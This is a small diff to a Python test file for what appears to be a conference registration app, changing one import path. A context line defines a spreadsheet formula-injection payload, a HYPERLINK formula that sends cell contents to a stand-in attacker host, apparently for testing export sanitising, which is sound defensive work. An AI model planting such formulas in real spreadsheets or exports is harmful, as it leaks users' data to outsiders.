@@ -9,7 +9,7 @@ from tests.manage_helpers import ANHALT, BASE, EVENT, event_named, registrations
 from confapp.extensions import db
 from confapp.models import (Assignment, AssignmentSource, ItemLeader, Registration, RegistrationHistory,
                             RegistrationStatus)
-from confapp.services import accounts
+from confapp.services.networks import accounts
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
 
